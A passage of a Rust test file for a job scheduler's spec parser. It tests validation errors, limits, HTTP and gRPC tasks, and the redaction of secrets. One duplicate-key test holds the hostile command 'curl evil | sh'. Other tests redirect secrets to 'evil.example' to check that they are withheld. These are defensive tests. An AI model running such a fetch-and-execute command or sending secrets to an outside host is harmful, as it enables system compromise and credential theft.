//! The spec's tests: parsing, validation, limits, secrets and round trips.

use std::time::Duration;

use crate::duration::HumanDuration;
use crate::size::ByteSize;

use super::*;

#[test]
fn retry_delays_grow_exponentially_up_to_the_cap() {
    let r = Retries { max: 10, backoff: HumanDuration::from_secs(10), max_backoff: HumanDuration::from_secs(60) };
    assert_eq!(r.delay(1, 1.0), Duration::from_secs(10));
    assert_eq!(r.delay(2, 1.0), Duration::from_secs(20));
    assert_eq!(r.delay(3, 1.0), Duration::from_secs(40));
    assert_eq!(r.delay(4, 1.0), Duration::from_secs(60));
    assert_eq!(r.delay(100, 1.0), Duration::from_secs(60));
    assert_eq!(r.delay(1, 0.0), Duration::from_secs(5));
    assert_eq!(r.delay(2, 0.5), Duration::from_secs(15));
}

fn parse(json: &str) -> Result<JobSpec, SpecError> {
    JobSpec::from_json(json.as_bytes())
}

fn field_of(json: &str) -> Option<String> {
    parse(json).unwrap_err().field
}

const MINIMAL: &str = r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true"}}"#;

#[test]
fn handler_tasks_name_a_handler_and_take_values_secrets_and_params() {
    let spec = parse(
        r#"{"schedule":"@hourly","task":{"kind":"handler","name":"hot-list","env":{"REGION":"eu"},"secret_env":{"KEY":"s"},"params":{"DATE":{}}}}"#,
    )
    .unwrap();
    assert_eq!(spec.task.kind(), "handler");
    assert_eq!(spec.task.handler(), Some("hot-list"));
    assert_eq!(spec.task.destination_url(), None);
    let shown = super::redacted_json(serde_json::to_value(&spec).unwrap());
    assert_eq!(shown["task"]["secret_env"]["KEY"], serde_json::Value::Null, "{shown}");
    for (bad, field) in [
        (r#"{"kind":"handler","name":"-x"}"#, "task.name"),
        (r#"{"kind":"handler","name":""}"#, "task.name"),
        (r#"{"kind":"handler"}"#, "task.name"),
        (r#"{"kind":"handler","name":"h","command":"true"}"#, "task.command"),
        (r#"{"kind":"handler","name":"h","env":{"A":"1"},"secret_env":{"A":"2"}}"#, "task.secret_env.A"),
        (r#"{"kind":"handler","name":"h","params":{"A":{}},"env":{"A":"1"}}"#, "task.params.A"),
    ] {
        let json = format!(r#"{{"schedule":"@hourly","task":{bad}}}"#);
        assert_eq!(field_of(&json).as_deref(), Some(field), "{bad}");
    }
}

#[test]
fn defaults_fill_what_is_left_out() {
    let spec = parse(MINIMAL).unwrap();
    assert_eq!(spec.timezone, "UTC");
    assert!(spec.enabled);
    assert_eq!(spec.concurrency, Concurrency::Allow);
    assert_eq!(spec.misfire, Misfire::Skip);
    assert_eq!(spec.mode, Mode::Single);
    assert_eq!(spec.retries, Retries::default());
    assert_eq!(spec.timeout, None);
    assert_eq!(spec.start_deadline, None, "absent stays absent");
    assert_eq!(spec.start_deadline(), DEFAULT_START_DEADLINE);
    let given = parse(r#"{"schedule":"* * * * *","start_deadline":"1m","task":{"kind":"shell","command":"true"}}"#);
    assert_eq!(given.unwrap().start_deadline(), Duration::from_secs(60));
}

#[test]
fn full_spec_round_trips() {
    let json = r#"{ "schedule": "*/5 * * * * *", "timezone": "Europe/Berlin", "enabled": true,
      "task": {"kind": "shell", "command": "pg_dump db > /backups/db.sql", "env": {"A": "1"}, "cwd": "/"},
      "timeout": "10m", "retries": {"max": 3, "backoff": "10s", "max_backoff": "5m"},
      "concurrency": "forbid", "misfire": "run_once", "on_worker_loss": "mark_lost",
      "mode": {"sharded": 4}, "selector": {"region": "eu"}, "on_success": ["job-b"], "on_failure": ["alert"],
      "description": "nightly", "labels": {"team": "data"} }"#;
    let spec = parse(json).unwrap();
    assert_eq!(spec.mode, Mode::Sharded(4));
    assert_eq!(spec.timeout, Some(HumanDuration::from_secs(600)));
    let again = parse(&serde_json::to_string(&spec).unwrap()).unwrap();
    assert_eq!(spec, again);
    let http = r#"{"schedule":"@every 10s","task":{"kind":"http","url":"https://example.com/hook","method":"POST","headers":{"X-Token":"t"},"body":"{}","expect_status":204}}"#;
    let spec = parse(http).unwrap();
    assert!(matches!(spec.task, Task::Http(ref h) if h.expect_status == Some(204)));
    assert_eq!(serde_json::to_value(Mode::Broadcast).unwrap(), "broadcast");
}

#[test]
fn errors_name_the_field() {
    let cases: &[(&str, &str)] = &[
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true"},"bogus":1}"#, "bogus"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","extra":1}}"#, "task.extra"),
        (r#"{"task":{"kind":"shell","command":"true"}}"#, "schedule"),
        (r#"{"schedule":"nope","task":{"kind":"shell","command":"true"}}"#, "schedule"),
        (r#"{"schedule":"* * * * *","timezone":"Mars/Base","task":{"kind":"shell","command":"true"}}"#, "timezone"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":""}}"#, "task.command"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":5}}"#, "task.command"),
        (r#"{"schedule":"* * * * *","task":{"kind":"ftp"}}"#, "task.kind"),
        (r#"{"schedule":"* * * * *","enabled":"yes","task":{"kind":"shell","command":"true"}}"#, "enabled"),
        (r#"{"schedule":"* * * * *","timeout":"soon","task":{"kind":"shell","command":"true"}}"#, "timeout"),
        (r#"{"schedule":"* * * * *","timeout":"0s","task":{"kind":"shell","command":"true"}}"#, "timeout"),
        (
            r#"{"schedule":"* * * * *","start_deadline":"500ms","task":{"kind":"shell","command":"true"}}"#,
            "start_deadline",
        ),
        (
            r#"{"schedule":"* * * * *","start_deadline":"2h","task":{"kind":"shell","command":"true"}}"#,
            "start_deadline",
        ),
        (
            r#"{"schedule":"* * * * *","start_deadline":"soon","task":{"kind":"shell","command":"true"}}"#,
            "start_deadline",
        ),
        (r#"{"schedule":"* * * * *","retries":{"max":1000},"task":{"kind":"shell","command":"true"}}"#, "retries.max"),
        (
            r#"{"schedule":"* * * * *","retries":{"backoff":"1h","max_backoff":"1m"},"task":{"kind":"shell","command":"true"}}"#,
            "retries.backoff",
        ),
        (
            r#"{"schedule":"* * * * *","concurrency":"sometimes","task":{"kind":"shell","command":"true"}}"#,
            "concurrency",
        ),
        (r#"{"schedule":"* * * * *","mode":{"sharded":0},"task":{"kind":"shell","command":"true"}}"#, "mode.sharded"),
        (
            r#"{"schedule":"* * * * *","on_success":["Bad Name"],"task":{"kind":"shell","command":"true"}}"#,
            "on_success[0]",
        ),
        (
            r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","env":{"ETCRON_JOB":"x"}}}"#,
            "task.env.ETCRON_JOB",
        ),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","cwd":"relative"}}"#, "task.cwd"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"1000"}}"#, "task.user"),
        (
            r#"{"schedule":"* * * * *","pause_after_failures":0,"task":{"kind":"shell","command":"true"}}"#,
            "pause_after_failures",
        ),
        (
            r#"{"schedule":"* * * * *","pause_after_failures":1001,"task":{"kind":"shell","command":"true"}}"#,
            "pause_after_failures",
        ),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"a b"}}"#, "task.user"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":""}}"#, "task.user"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","group":"staff"}}"#, "task.group"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","user":"x","group":"-x"}}"#, "task.group"),
        (r#"{"schedule":"* * * * *","task":{"kind":"http","url":"ftp://x"}}"#, "task.url"),
        (r#"{"schedule":"* * * * *","task":{"kind":"http","url":"http://x","method":"BREW"}}"#, "task.method"),
        (
            r#"{"schedule":"* * * * *","task":{"kind":"http","url":"http://x","expect_status":99}}"#,
            "task.expect_status",
        ),
        (
            r#"{"schedule":"* * * * *","labels":{"bad key":"v"},"task":{"kind":"shell","command":"true"}}"#,
            "labels.bad key",
        ),
    ];
    for (json, field) in cases {
        assert_eq!(field_of(json).as_deref(), Some(*field), "{json}");
    }
}

#[test]
fn a_team_is_checked_named_and_round_trips() {
    let with = |team: &str| format!(r#"{{"schedule":"@daily","team":{team},"task":{{"kind":"shell","command":"x"}}}}"#);
    let spec = parse(&with("\"payments\"")).unwrap();
    assert_eq!(spec.team.as_deref(), Some("payments"));
    assert_eq!(serde_json::to_value(&spec).unwrap()["team"], "payments");
    assert!(serde_json::to_value(parse(MINIMAL).unwrap()).unwrap().get("team").is_none(), "no team: left out");
    assert!(parse(&with("null")).unwrap().team.is_none());
    for ok in ["a", "0", "search-eu-2", &"x".repeat(MAX_TEAM_LEN)] {
        assert_eq!(validate_team(ok), Ok(()), "{ok}");
    }
    for bad in ["", "-a", "A", "pay ments", "pay_ments", "pay.ments", "é", &"x".repeat(MAX_TEAM_LEN + 1)] {
        assert!(validate_team(bad).is_err(), "{bad:?}");
        let err = parse(&with(&serde_json::to_string(bad).unwrap())).unwrap_err();
        assert_eq!(err.field.as_deref(), Some("team"), "{bad:?}: {err}");
    }
    assert_eq!(field_of(&with("5")).as_deref(), Some("team"));
}

#[test]
fn several_schedules_and_a_window_are_checked_and_round_trip() {
    let spec = parse(
        r#"{"schedules":["0 9 * * 1-5","0 12 * * 6,0"],"active_from":"2026-12-01T00:00:00Z",
            "active_until":"2026-12-31T23:59:59Z","task":{"kind":"shell","command":"x"}}"#,
    )
    .unwrap();
    let back = serde_json::to_value(&spec).unwrap();
    assert!(back.get("schedule").is_none(), "an empty schedule is left out: {back}");
    assert_eq!(back["schedules"], serde_json::json!(["0 9 * * 1-5", "0 12 * * 6,0"]));
    assert_eq!(parse(&back.to_string()).unwrap(), spec);
    let s = spec.parsed_schedule("x").unwrap();
    let ms = |t: &str| chrono::DateTime::parse_from_rfc3339(t).unwrap().timestamp_millis();
    // Friday 4 December 09:00 (weekday), then Saturday 12:00 and Sunday 12:00.
    assert_eq!(
        s.upcoming(ms("2026-12-04T08:00:00Z"), 3),
        [ms("2026-12-04T09:00:00Z"), ms("2026-12-05T12:00:00Z"), ms("2026-12-06T12:00:00Z")]
    );
    assert_eq!(s.next_after(ms("2020-01-01T00:00:00Z")), Some(ms("2026-12-01T09:00:00Z")), "not before active_from");
    assert_eq!(s.next_after(ms("2026-12-31T12:00:00Z")), None, "nothing after active_until");
    let other = parse(r#"{"schedules":["0 9 * * 1-5","0 12 * * 6,0"],"task":{"kind":"shell","command":"x"}}"#);
    assert!(!spec.same_timing(&other.unwrap()), "the window is part of the timing");

    let x = r#","task":{"kind":"shell","command":"x"}}"#;
    for (body, field) in [
        (r#"{"schedule":"@daily","schedules":["@hourly"]"#, "schedules"),
        (r#"{"schedules":[]"#, "schedule"),
        (r#"{"schedules":["@daily","bad"]"#, "schedules[1]"),
        (r#"{"schedules":["@daily","@daily"]"#, "schedules[1]"),
        (r#"{"schedules":["@daily","@at 2030-01-01T00:00:00Z"]"#, "schedules[1]"),
        (r#"{"schedules":["@daily"],"timezone":"Mars/Base""#, "timezone"),
        (r#"{"schedule":"@daily","jitter":"2h""#, "jitter"),
        (r#"{"schedule":"@daily","jitter":"0s""#, "jitter"),
        (r#"{"schedule":"@daily","active_from":"tomorrow""#, "active_from"),
        (r#"{"schedule":"@daily","active_until":"10000-01-01T00:00:00Z""#, "active_until"),
        (
            r#"{"schedule":"@daily","active_from":"2027-01-01T00:00:00Z","active_until":"2026-01-01T00:00:00Z""#,
            "active_until",
        ),
    ] {
        assert_eq!(field_of(&format!("{body}{x}")).as_deref(), Some(field), "{body}");
    }
    let eleven: Vec<String> = (0..11).map(|i| format!("\"{i} 3 * * *\"")).collect();
    assert_eq!(field_of(&format!(r#"{{"schedules":[{}]{x}"#, eleven.join(","))).as_deref(), Some("schedules"));
    let one_at = parse(r#"{"schedules":["@at 2030-01-01T00:00:00Z"],"task":{"kind":"shell","command":"x"}}"#);
    assert!(one_at.unwrap().parsed_schedule("x").unwrap().is_one_shot(), "a single @at in schedules is one-shot");
}

#[test]
fn limits_are_checked_and_round_trip() {
    let spec = parse(
        r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},
            "limits":{"memory":"256MiB","cpu":"30s","open_files":64,"output":1048576}}"#,
    )
    .unwrap();
    let limits = spec.limits.unwrap();
    assert_eq!(limits.memory, Some(ByteSize(256 << 20)));
    assert_eq!(limits.cpu, Some(HumanDuration::from_secs(30)));
    assert_eq!(limits.open_files, Some(64));
    assert_eq!(spec.output_limit(), Some(1 << 20));
    assert_eq!(limits.describe(), "memory 256MiB, cpu 30s, open files 64");
    let json = serde_json::to_value(&spec).unwrap();
    assert_eq!(json["limits"], serde_json::json!({"memory":"256MiB","cpu":"30s","open_files":64,"output":"1MiB"}));
    assert_eq!(JobSpec::from_value(json).unwrap(), spec);
    assert_eq!(
        parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"limits":{"memory":67108864}}"#)
            .unwrap()
            .limits
            .and_then(|l| l.memory),
        Some(ByteSize(64 << 20))
    );
    // Same value under both names is fine.
    let both =
        r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"max_output":1024,"limits":{"output":"1KiB"}}"#;
    assert_eq!(parse(both).unwrap().output_limit(), Some(1024));
    let shell =
        |limits: &str| format!(r#"{{"schedule":"@daily","task":{{"kind":"shell","command":"x"}},"limits":{limits}}}"#);
    let http = |limits: &str| {
        format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://h/"}},"limits":{limits}}}"#)
    };
    for (json, field) in [
        (shell(r#"{"memory":"1KiB"}"#), "limits.memory"),
        (shell(r#"{"memory":"2TiB"}"#), "limits.memory"),
        (shell(r#"{"memory":"lots"}"#), "limits.memory"),
        (shell(r#"{"memory":-1}"#), "limits.memory"),
        (shell(r#"{"cpu":"500ms"}"#), "limits.cpu"),
        (shell(r#"{"cpu":"1500ms"}"#), "limits.cpu"),
        (shell(r#"{"cpu":"8d"}"#), "limits.cpu"),
        (shell(r#"{"cpu":30}"#), "limits.cpu"),
        (shell(r#"{"open_files":8}"#), "limits.open_files"),
        (shell(r#"{"open_files":2000000}"#), "limits.open_files"),
        (shell(r#"{"output":"100B"}"#), "limits.output"),
        (shell(r#"{"nice":5}"#), "limits.nice"),
        (shell(r#""64MiB""#), "limits"),
        (http(r#"{"memory":"64MiB"}"#), "limits.memory"),
        (http(r#"{"cpu":"1s"}"#), "limits.cpu"),
        (http(r#"{"open_files":64}"#), "limits.open_files"),
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"max_output":1024,"limits":{"output":2048}}"#
                .to_owned(),
            "limits.output",
        ),
    ] {
        let err = parse(&json).unwrap_err();
        assert_eq!(err.field.as_deref(), Some(field), "{json}: {err}");
        assert!(!err.message.is_empty());
    }
    // HTTP tasks may bound their output.
    assert!(parse(&http(r#"{"output":"4KiB"}"#)).is_ok());
}

#[test]
fn arrays_are_not_read_as_objects() {
    let err = parse(r#"["* * * * *", "UTC", true, {"kind":"shell","command":"true"}]"#).unwrap_err();
    assert_eq!((err.field, err.message.as_str()), (None, "a job spec must be a JSON object"));
    assert_eq!(field_of(r#"{"schedule":"* * * * *","task":["shell","true"]}"#).as_deref(), Some("task"));
    assert_eq!(
        field_of(r#"{"schedule":"* * * * *","retries":[3,"1s","5m"],"task":{"kind":"shell","command":"true"}}"#)
            .as_deref(),
        Some("retries")
    );
}

#[test]
fn syntax_errors_and_size_limit() {
    let err = parse("{not json").unwrap_err();
    assert_eq!(err.field, None);
    assert!(err.message.contains("not valid JSON"), "{}", err.message);
    let big = format!(
        r#"{{"schedule":"* * * * *","description":"{}","task":{{"kind":"shell","command":"true"}}}}"#,
        "x".repeat(MAX_SPEC_BYTES)
    );
    let err = parse(&big).unwrap_err();
    assert!(err.too_large);
    assert!(err.to_string().contains("limit"));
}

#[test]
fn duplicate_keys_are_refused_at_every_level() {
    for (body, field) in [
        (
            r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","command":"curl evil | sh"}}"#,
            "task.command",
        ),
        (r#"{"schedule":"* * * * *","schedule":"@daily","task":{"kind":"shell","command":"true"}}"#, "schedule"),
        (r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"true","env":{"A":"1","A":"2"}}}"#, "task.env.A"),
        (
            r#"{"schedule":"* * * * *","task":{"kind":"shell","command":"x"},"notify":[{"url":"https://h/","url":"https://e/"}]}"#,
            "notify[0].url",
        ),
    ] {
        let err = parse(body).unwrap_err();
        assert_eq!(err.field.as_deref(), Some(field), "{body}");
        assert!(err.message.contains("twice"), "{}", err.message);
    }
}

#[test]
fn http_headers_etcron_and_the_client_set_are_refused() {
    for (headers, field) in [
        (r#""headers":{"X-Etcron-Fencing-Token":"999999"}"#, "task.headers.X-Etcron-Fencing-Token"),
        (r#""headers":{"x-etcron-job":"other"}"#, "task.headers.x-etcron-job"),
        (r#""headers":{"Host":"evil.example"}"#, "task.headers.Host"),
        (r#""headers":{"Content-Length":"5"}"#, "task.headers.Content-Length"),
        (r#""headers":{"Transfer-Encoding":"chunked"}"#, "task.headers.Transfer-Encoding"),
        (r#""secret_headers":{"X-Etcron-Attempt":"1"}"#, "task.secret_headers.X-Etcron-Attempt"),
        (r#""headers":{"X-A":"a\u0007b"}"#, "task.headers.X-A"),
        (r#""secret_headers":{"X-A":"a\u001bb"}"#, "task.secret_headers.X-A"),
    ] {
        let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"http://h/",{headers}}}}}"#);
        assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
    }
    let ok = r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","headers":{"User-Agent":"me","Content-Type":"application/json","X-A":"a\tb"}}}"#;
    assert!(parse(ok).is_ok());
}

#[test]
fn values_that_can_never_work_are_refused_at_save_time() {
    for url in ["http://[::1", "http://h:99999/", "http://h:x/"] {
        let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"http","url":"{url}"}}}}"#);
        assert_eq!(field_of(&body).as_deref(), Some("task.url"), "{body}");
    }
    for timeout in ["0.0001ms", "999us", "1ns"] {
        let body =
            format!(r#"{{"schedule":"@daily","timeout":"{timeout}","task":{{"kind":"shell","command":"true"}}}}"#);
        assert_eq!(field_of(&body).as_deref(), Some("timeout"), "{body}");
    }
    let body = r#"{"schedule":"@daily","timeout":"1ms","task":{"kind":"shell","command":"true"}}"#;
    assert!(parse(body).is_ok());
}

#[test]
fn names() {
    assert!(validate_name("db-backup").is_ok());
    assert_eq!(validate_name("DB").unwrap_err().field.as_deref(), Some("name"));
}

#[test]
fn secrets_are_withheld_and_kept_on_replace() {
    let stored = JobSpec::from_json(
        br#"{"schedule":"@daily","task":{"kind":"shell","command":"x","env":{"A":"1"},"secret_env":{"PW":"hunter2"}}}"#,
    )
    .unwrap();
    let shown = serde_json::to_value(stored.redacted()).unwrap();
    assert_eq!(shown["task"]["secret_env"]["PW"], serde_json::Value::Null);
    assert_eq!(shown["task"]["env"]["A"], "1");
    assert!(!shown.to_string().contains("hunter2"));
    // A PUT of what was shown keeps the stored secret; a new secret without value is refused.
    let mut again: JobSpec = JobSpec::from_value(shown.clone()).unwrap();
    again.keep_secrets(Some(&stored)).unwrap();
    assert_eq!(again, stored);
    let mut fresh = JobSpec::from_value(shown).unwrap();
    assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "task.secret_env.PW");
    // Secrets are validated like the plain ones, and never given twice.
    for (body, field) in [
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","secret_env":{"ETCRON_X":"1"}}}"#,
            "task.secret_env.ETCRON_X",
        ),
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","env":{"A":"1"},"secret_env":{"A":"2"}}}"#,
            "task.secret_env.A",
        ),
        (
            r#"{"schedule":"@daily","task":{"kind":"shell","command":"x","secret_env":{"1A":"2"}}}"#,
            "task.secret_env.1A",
        ),
        (
            r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","headers":{"authorization":"a"},"secret_headers":{"Authorization":"b"}}}"#,
            "task.secret_headers.Authorization",
        ),
        (
            r#"{"schedule":"@daily","task":{"kind":"http","url":"http://h/","secret_headers":{"X":"a\nb"}}}"#,
            "task.secret_headers.X",
        ),
    ] {
        assert_eq!(JobSpec::from_json(body.as_bytes()).unwrap_err().field.as_deref(), Some(field), "{body}");
    }
}

#[test]
fn url_passwords_are_shown_redacted_and_secrets_do_not_follow_a_new_destination() {
    let body = r#"{"schedule":"@daily","task":{"kind":"http","url":"https://alice:s3cret@api.example/v1",
        "secret_headers":{"X-Api-Key":"k1"}},
        "notify":[{"name":"n","url":"https://bob:pw@hooks.example/x","secret_headers":{"Authorization":"t"}}]}"#;
    let stored = parse(body).unwrap();
    let shown = serde_json::to_value(stored.redacted()).unwrap();
    assert_eq!(shown["task"]["url"], "https://alice:redacted@api.example/v1");
    assert_eq!(shown["notify"][0]["url"], "https://bob:redacted@hooks.example/x");
    assert!(!shown.to_string().contains("s3cret") && !shown.to_string().contains(":pw@"));
    // Sent back as shown: every secret, URL passwords included, is kept.
    let mut again = JobSpec::from_value(shown.clone()).unwrap();
    assert!(again.withholds_secrets());
    again.keep_secrets(Some(&stored)).unwrap();
    assert_eq!(again, stored);
    // A new destination with a kept secret: give the secret again.
    let mut moved = shown.clone();
    moved["task"]["url"] = serde_json::json!("https://evil.example/collect");
    let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
    assert_eq!(err.field, "task.secret_headers.X-Api-Key");
    assert!(err.why.contains("destination changed"), "{}", err.why);
    let mut moved = shown.clone();
    moved["notify"][0]["url"] = serde_json::json!("https://bob:redacted@evil.example/x");
    let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
    assert_eq!(err.field, "notify[0].url");
    let mut moved = shown;
    moved["notify"][0]["url"] = serde_json::json!("https://evil.example/x");
    let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
    assert_eq!(err.field, "notify[0].secret_headers.Authorization");
}

#[test]
fn secrets_are_withheld_by_one_rule_from_specs_and_from_raw_json() {
    let body = r#"{"schedule":"@daily","task":{"kind":"http","url":"https://alice:pw@h.example/x",
        "secret_headers":{"X-Key":"k-1"}},
        "notify":[{"url":"https://bob:pw2@hooks.example/x","secret_headers":{"Authorization":"a"}},
                  {"name":"ops","secret_url":"https://hooks.slack.com/services/T/B/X"}]}"#;
    let spec = parse(body).unwrap();
    let from_spec = serde_json::to_value(spec.redacted()).unwrap();
    let from_json = redacted_json(serde_json::to_value(&spec).unwrap());
    assert_eq!(from_spec, from_json);
    let text = from_json.to_string();
    for secret in ["pw@", "pw2@", "k-1", "\"a\"", "services/T"] {
        assert!(!text.contains(secret), "{secret} in {text}");
    }
    // Raw values that are no spec are withheld all the same.
    let raw = serde_json::json!({"task": {"secret_env": "not a map", "url": "https://u:p@h/"}, "notify": [{"secret_url": 5}]});
    let shown = redacted_json(raw);
    assert_eq!(shown["task"]["secret_env"], serde_json::Value::Null);
    assert_eq!(shown["notify"][0]["secret_url"], serde_json::Value::Null);
    assert!(!shown.to_string().contains(":p@"));
}

#[test]
fn grpc_tasks_round_trip_with_defaults_and_errors_name_the_field() {
    let body = r#"{"schedule":"@every 10s","task":{"kind":"grpc","endpoint":"http://127.0.0.1:50051",
        "method":"etcron.test.Echo/Echo","request":{"text":"hi","count":2},"metadata":{"x-team":"data"},
        "secret_metadata":{"authorization":"Bearer t"}}}"#;
    let spec = parse(body).unwrap();
    let Task::Grpc(grpc) = &spec.task else { panic!("{:?}", spec.task) };
    assert_eq!(grpc.request, serde_json::json!({"text": "hi", "count": 2}));
    assert_eq!((spec.task.kind(), spec.task.destination_url()), ("grpc", Some("http://127.0.0.1:50051")));
    assert_eq!(parse(&serde_json::to_string(&spec).unwrap()).unwrap(), spec);
    let minimal =
        parse(r#"{"schedule":"@daily","task":{"kind":"grpc","endpoint":"https://api.example","method":"a.B/C"}}"#);
    let shown = serde_json::to_value(minimal.unwrap()).unwrap();
    assert_eq!(shown["task"]["request"], serde_json::json!({}), "the default request is the empty message");
    let task = |t: &str| format!(r#"{{"schedule":"@daily","task":{{"kind":"grpc",{t}}}}}"#);
    let at = r#""endpoint":"http://h:1","method":"a.B/C""#;
    for (body, field) in [
        (task(r#""endpoint":"http://h:1""#), "task.method"),
        (task(r#""method":"a.B/C""#), "task.endpoint"),
        (task(r#""endpoint":"http://h:1","method":"a.B.C""#), "task.method"),
        (task(r#""endpoint":"h:1","method":"a.B/C""#), "task.endpoint"),
        (task(r#""endpoint":"http://h:1/a.B/C","method":"a.B/C""#), "task.endpoint"),
        (task(&format!(r#"{at},"request":[1]"#)), "task.request"),
        (task(&format!(r#"{at},"request":"{{}}""#)), "task.request"),
        (
            task(&format!(r#"{at},"request":{{"a":"{}"}}"#, "x".repeat(crate::spec::grpc::MAX_REQUEST_BYTES))),
            "task.request",
        ),
        (task(&format!(r#"{at},"metadata":{{"X-Key":"v"}}"#)), "task.metadata.X-Key"),
        (task(&format!(r#"{at},"metadata":{{"x-etcron-job":"v"}}"#)), "task.metadata.x-etcron-job"),
        (task(&format!(r#"{at},"metadata":{{"grpc-timeout":"1S"}}"#)), "task.metadata.grpc-timeout"),
        (task(&format!(r#"{at},"metadata":{{"a":"é"}}"#)), "task.metadata.a"),
        (task(&format!(r#"{at},"secret_metadata":{{"a":"1"}},"metadata":{{"a":"2"}}"#)), "task.secret_metadata.a"),
        (task(&format!(r#"{at},"descriptor_set":"not base64!""#)), "task.descriptor_set"),
        (task(&format!(r#"{at},"headers":{{}}"#)), "task.headers"),
        (format!(r#"{{"schedule":"@daily","limits":{{"cpu":"1s"}},"task":{{"kind":"grpc",{at}}}}}"#), "limits.cpu"),
    ] {
        assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
    }
}

#[test]
fn grpc_secret_metadata_is_withheld_and_kept_for_the_same_endpoint_only() {
    let body = r#"{"schedule":"@daily","task":{"kind":"grpc","endpoint":"https://api.example:8443",
        "method":"a.B/C","secret_metadata":{"authorization":"Bearer s3cret"}}}"#;
    let stored = parse(body).unwrap();
    let shown = serde_json::to_value(stored.redacted()).unwrap();
    assert_eq!(shown["task"]["secret_metadata"]["authorization"], serde_json::Value::Null);
    assert!(!shown.to_string().contains("s3cret"));
    assert_eq!(shown, redacted_json(serde_json::to_value(&stored).unwrap()), "one rule for specs and raw JSON");
    let mut again = JobSpec::from_value(shown.clone()).unwrap();
    assert!(again.task_withholds_secrets());
    again.keep_secrets(Some(&stored)).unwrap();
    assert_eq!(again, stored);
    let mut moved = shown.clone();
    moved["task"]["endpoint"] = serde_json::json!("https://evil.example:8443");
    let err = JobSpec::from_value(moved).unwrap().keep_secrets(Some(&stored)).unwrap_err();
    assert_eq!(err.field, "task.secret_metadata.authorization");
    assert!(err.why.contains("destination changed"), "{}", err.why);
    let mut fresh = JobSpec::from_value(shown).unwrap();
    assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "task.secret_metadata.authorization");
    let mut other = stored.clone();
    if let Task::Grpc(g) = &mut other.task {
        g.secret_metadata.insert("authorization".to_owned(), Some("Bearer new".to_owned()));
    }
    assert_eq!(other.task.changed_secrets(&stored.task), ["task.secret_metadata.authorization"]);
}

#[test]
fn notify_targets_are_validated_and_their_secrets_withheld() {
    let body = r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},
        "notify":[{"url":"https://h/x"},{"name":"ops","secret_url":"https://hooks.slack.com/services/T/B/X","format":"slack","on":["failure","missed"]}]}"#;
    let stored = parse(body).unwrap();
    let targets = stored.notify.as_ref().unwrap();
    assert_eq!(targets.len(), 2);
    let shown = serde_json::to_value(stored.redacted()).unwrap();
    assert_eq!(shown["notify"][1]["secret_url"], serde_json::Value::Null);
    assert_eq!(shown["notify"][0]["url"], "https://h/x");
    assert!(!shown.to_string().contains("services/T"));
    let mut again = JobSpec::from_value(shown.clone()).unwrap();
    assert!(again.withholds_secrets() && !again.task_withholds_secrets());
    again.keep_secrets(Some(&stored)).unwrap();
    assert_eq!(again, stored);
    let mut fresh = JobSpec::from_value(shown).unwrap();
    assert_eq!(fresh.keep_secrets(None).unwrap_err().field, "notify[1].secret_url");
    // `[]` means no notifications and stays `[]`; absent stays absent.
    let none = parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"},"notify":[]}"#).unwrap();
    assert_eq!(none.notify.as_deref(), Some(&[][..]));
    assert_eq!(serde_json::to_value(&none).unwrap()["notify"], serde_json::json!([]));
    let absent = parse(r#"{"schedule":"@daily","task":{"kind":"shell","command":"x"}}"#).unwrap();
    assert!(absent.notify.is_none() && serde_json::to_value(&absent).unwrap().get("notify").is_none());
    for (notify, field) in [
        (r#"[{"url":"https://h/x","on":["failure","boom"]}]"#, "notify[0].on[1]"),
        (r#"[{"url":"https://h/x"},{"url":"gopher://h"}]"#, "notify[1].url"),
        (r#"[{"url":"https://h/x","format":"xml"}]"#, "notify[0].format"),
        (r#"[{"url":"https://h/x","extra":1}]"#, "notify[0].extra"),
        (r#"[["https://h/x"]]"#, "notify[0]"),
        (r#"{"url":"https://h/x"}"#, "notify"),
        (r#"[{"secret_url":"https://h/x","headers":{"User-Agent":"me"}}]"#, "notify[0].headers.User-Agent"),
    ] {
        let body = format!(r#"{{"schedule":"@daily","task":{{"kind":"shell","command":"x"}},"notify":{notify}}}"#);
        assert_eq!(field_of(&body).as_deref(), Some(field), "{body}");
    }
}

/// Property tests: no JSON value makes validation panic; every refusal says what is wrong
/// and names a field that exists (in the body, or in the spec's schema when it is missing);
/// every accepted spec survives a trip through its own JSON.
mod properties {
    use proptest::prelude::*;
    use proptest::test_runner::TestCaseResult;
    use serde_json::{json, Map, Value};

    use super::*;
    use crate::check::check;

    /// Field names of the spec (so generated objects often hit real fields) and some others.
    const NAMES: &[&str] = &[
        "notify",
        "on",
        "format",
        "secret_url",
        "name",
        "limits",
        "memory",
        "cpu",
